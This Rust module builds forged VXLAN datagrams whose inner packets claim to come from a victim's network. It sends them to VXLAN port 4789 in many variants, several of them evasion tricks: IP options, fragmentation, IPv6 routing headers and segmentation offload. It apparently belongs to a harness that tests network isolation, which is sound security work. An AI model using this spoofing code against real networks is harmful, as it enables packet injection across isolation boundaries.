//! With VXLAN made by hand: a datagram that says that it comes from the victim's network.
#![allow(unsafe_code, reason = "constants of socket options")]

use super::socket::{self, inet, set};
use super::{Aim, Attempt};
use socket2::{SockAddr, Type};
use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use uvn_wire::checksum::Sum;
use uvn_wire::ethernet::Mac;

const UDP_SEGMENT: i32 = 103;

/// Where a VXLAN port is.
type Port = fn(&Aim) -> IpAddr;
/// How the datagram gets there.
type Send = fn(&Aim, SocketAddr, &[u8]) -> io::Result<()>;

/// The attempts: by the address of a VXLAN port, and by what is done to hide it.
#[must_use]
pub fn attempts() -> Vec<Attempt> {
    let ports: [(&str, Port); 6] = [
        ("localhost4", |_| Ipv4Addr::LOCALHOST.into()),
        ("localhost6", |_| Ipv6Addr::LOCALHOST.into()),
        ("here4", |aim| aim.here.into()),
        ("here6", |aim| aim.here6.into()),
        ("there4", |aim| aim.there.into()),
        ("there6", |aim| aim.there6.into()),
    ];
    let ways: [(&str, Send); 6] = [
        ("plain", |_, to, frame| send(&inet(Type::DGRAM, to)?, to, frame)),
        ("connected", |_, to, frame| {
            let socket = inet(Type::DGRAM, to)?;
            socket.connect(&SockAddr::from(to))?;
            socket.send(frame).map(drop)
        }),
        ("nic", |aim, to, frame| socket::send_through(&inet(Type::DGRAM, to)?, &aim.nic, to, frame)),
        ("lo", |_, to, frame| socket::send_through(&inet(Type::DGRAM, to)?, "lo", to, frame)),
        ("gso", |_, to, frame| {
            let socket = inet(Type::DGRAM, to)?;
            set(&socket, libc::IPPROTO_UDP, UDP_SEGMENT, &(frame.len() as i32))?;
            send(&socket, to, &[frame, frame].concat())
        }),
        ("corked", |_, to, frame| {
            let socket = inet(Type::DGRAM, to)?;
            let (first, second) = frame.split_at(20);
            socket.send_to_with_flags(first, &SockAddr::from(to), libc::MSG_MORE)?;
            send(&socket, to, second)
        }),
    ];
    let mut all = Vec::new();
    for (port, address) in ports {
        for (way, by) in ways {
            all.push(Attempt::new(format!("vxlan-{way}-{port}"), move |aim, what| {
                let to = SocketAddr::new(address(aim), 4789);
                by(aim, to, &forged(aim, to.ip(), what))?;
                // The victim's server tells.
                Err(io::ErrorKind::TimedOut.into())
            }));
        }
    }
    all.extend(hidden());
    all
}

fn hidden() -> Vec<Attempt> {
    vec![
        Attempt::new("vxlan-options", |aim, what| {
            let to = SocketAddr::new(aim.there.into(), 4789);
            let socket = inet(Type::DGRAM, to)?;
            // No-operations: the UDP header is not where it is without options.
            set(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &[1_u8; 8])?;
            send(&socket, to, &forged(aim, to.ip(), what))?;
            Err(io::ErrorKind::TimedOut.into())
        }),
        Attempt::new("vxlan-fragments", |aim, what| {
            let to = SocketAddr::new(aim.there.into(), 4789);
            let mut frame = forged(aim, to.ip(), what);
            frame.resize(4000, 0);
            send(&inet(Type::DGRAM, to)?, to, &frame)?;
            Err(io::ErrorKind::TimedOut.into())
        }),
        Attempt::new("vxlan-mapped", |aim, what| {
            let to = SocketAddr::new(aim.there.to_ipv6_mapped().into(), 4789);
            send(&inet(Type::DGRAM, to)?, to, &forged(aim, aim.there.into(), what))?;
            Err(io::ErrorKind::TimedOut.into())
        }),
        Attempt::new("vxlan-routing-header", |aim, what| {
            let to = SocketAddr::new(aim.there6.into(), 4789);
            let socket = inet(Type::DGRAM, to)?;
            set(&socket, libc::IPPROTO_IPV6, libc::IPV6_RTHDR, &segments(aim))?;
            send(&socket, to, &forged(aim, to.ip(), what))?;
            Err(io::ErrorKind::TimedOut.into())
        }),
    ]
}

/// A segment routing header (RFC 8754 section 2) with one segment on the way; the kernel fills in the last.
fn segments(aim: &Aim) -> [u8; 40] {
    let mut header = [0; 40];
    // Length beyond the first 8 bytes in units of 8; type 4; one segment left of two.
    header[..6].copy_from_slice(&[0, 4, 4, 1, 1, 0]);
    header[24..].copy_from_slice(&aim.there6.octets());
    header
}

fn send(socket: &socket2::Socket, to: SocketAddr, frame: &[u8]) -> io::Result<()> {
    socket.send_to(frame, &SockAddr::from(to)).map(drop)
}

/// A VXLAN header and a frame that says `what` to the victim's server, on the node where `port` is.
fn forged(aim: &Aim, port: IpAddr, what: &str) -> Vec<u8> {
    let far = port == IpAddr::from(aim.there) || port == IpAddr::from(aim.there6);
    let (from, to) = if far { (aim.here, aim.there) } else { (aim.there, aim.here) };
    // RFC 7348 section 5.
    let mut frame = vec![0x08, 0, 0, 0];
    frame.extend((aim.vni << 8).to_be_bytes());
    frame.extend(Mac::of(to.into()).0);
    frame.extend(Mac::of(from.into()).0);
    frame.extend([0x08, 0x00]);
    frame.extend(ipv4(from, to, what.len()));
    frame.extend(40_000_u16.to_be_bytes());
    frame.extend(super::PORT.to_be_bytes());
    frame.extend((8 + what.len() as u16).to_be_bytes());
    // No checksum (RFC 768).
    frame.extend([0, 0]);
    frame.extend(what.as_bytes());
    frame
}

/// An IPv4 header in front of a UDP datagram.
fn ipv4(from: Ipv4Addr, to: Ipv4Addr, payload: usize) -> [u8; 20] {
    let mut header = [0x45, 0, 0, 0, 0, 1, 0, 0, 64, 17, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    header[2..4].copy_from_slice(&(28 + payload as u16).to_be_bytes());
    header[12..16].copy_from_slice(&from.octets());
    header[16..].copy_from_slice(&to.octets());
    let sum = Sum::of(&header).checksum();
    header[10..12].copy_from_slice(&sum.to_be_bytes());
    header
}
